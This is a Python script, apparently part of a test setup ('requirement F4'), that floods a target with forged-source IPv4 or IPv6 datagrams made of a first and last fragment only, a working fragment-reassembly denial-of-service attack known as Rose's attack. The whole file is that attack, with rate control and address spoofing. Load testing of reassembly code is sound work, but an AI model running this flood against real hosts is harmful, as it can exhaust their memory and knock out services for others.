"""fragment_flood.py TARGET SOURCE SECONDS RATE: datagrams of a first and a last fragment only.

None of these datagrams can ever be reassembled (Rose's attack, requirement F4). SOURCE is the
source address, possibly forged, or "random" for a different one in each datagram. RATE is in
datagrams per second; 0 is as fast as possible. At the end it prints the number of fragments sent.
It is a separate process for speed.
"""

import random
import socket
import struct
import sys
import time

IPV4, IPV6 = struct.Struct(">BBHHHBBH4s4s"), struct.Struct(">IHBB16s16s")
FRAGMENT = struct.Struct(">BBHI")
MORE_IPV4, MORE_IPV6 = 0x2000, 1
PREPARED = 8192  # datagrams
AT_ONCE = 32  # datagrams between two readings of the clock
FARTHEST = 1400  # bytes; the largest offset of a last fragment
SO_SNDBUFFORCE, BUFFER = 32, 8 << 20


def main() -> None:
    target, source, seconds, rate = sys.argv[1], sys.argv[2], *map(float, sys.argv[3:5])
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    chance = random.Random(3)
    make = make_ipv6 if family == socket.AF_INET6 else make_ipv4
    packets = []
    for _ in range(PREPARED):
        sender = random_address(family, chance) if source == "random" else source
        packets.append(make(socket.inet_pton(family, sender), socket.inet_pton(family, target),
                            chance))  # fmt: skip
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.SOL_SOCKET, SO_SNDBUFFORCE, BUFFER)
        print(flood(raw, (target, 0), packets, seconds, rate), flush=True)


def flood(raw: socket.socket, target: tuple, packets: list, seconds: float, rate: float) -> int:
    start, sent, place, send = time.monotonic(), 0, 0, raw.sendto
    while (passed := time.monotonic() - start) < seconds:
        if rate and sent / 2 > rate * passed:
            time.sleep(0.0005)
            continue
        for first, last in packets[place : place + AT_ONCE]:
            try:
                send(first, target)
                send(last, target)
                sent += 2
            except OSError:
                pass  # the queue is full
        place = (place + AT_ONCE) % len(packets)
    return sent


def make_ipv4(source: bytes, target: bytes, chance: random.Random) -> tuple[bytes, bytes]:
    """The kernel writes the header's checksum."""
    identification = chance.randrange(1, 1 << 16)
    first, last, offset = contents(chance)

    def packet(content: bytes, field: int) -> bytes:
        total, kind = IPV4.size + len(content), socket.IPPROTO_UDP
        header = IPV4.pack(0x45, 0, total, identification, field, 64, kind, 0, source, target)
        return header + content

    return packet(first, MORE_IPV4), packet(last, offset // 8)


def make_ipv6(source: bytes, target: bytes, chance: random.Random) -> tuple[bytes, bytes]:
    identification = chance.getrandbits(32)
    first, last, offset = contents(chance)

    def packet(content: bytes, field: int) -> bytes:
        header = FRAGMENT.pack(socket.IPPROTO_UDP, 0, field, identification)
        length = len(header) + len(content)
        fixed = IPV6.pack(6 << 28, length, socket.IPPROTO_FRAGMENT, 64, source, target)
        return fixed + header + content

    return packet(first, MORE_IPV6), packet(last, offset)


def contents(chance: random.Random) -> tuple[bytes, bytes, int]:
    """The data of a first and a last fragment, and the offset of the last one, after a gap."""
    length = 8 * chance.randint(1, 4)
    ports = struct.pack(">HHHH", chance.getrandbits(16), chance.getrandbits(16), FARTHEST, 0)
    first = ports + chance.randbytes(length - 8)
    offset = length + 8 * chance.randint(1, (FARTHEST - length) // 8)
    return first, chance.randbytes(chance.randint(1, 32)), offset


def random_address(family: int, chance: random.Random) -> str:
    if family == socket.AF_INET6:
        return f"2001:db8:ffff::{chance.getrandbits(16):x}"
    return f"10.{chance.randint(100, 199)}.{chance.randint(0, 255)}.{chance.randint(1, 254)}"


if __name__ == "__main__":
    main()
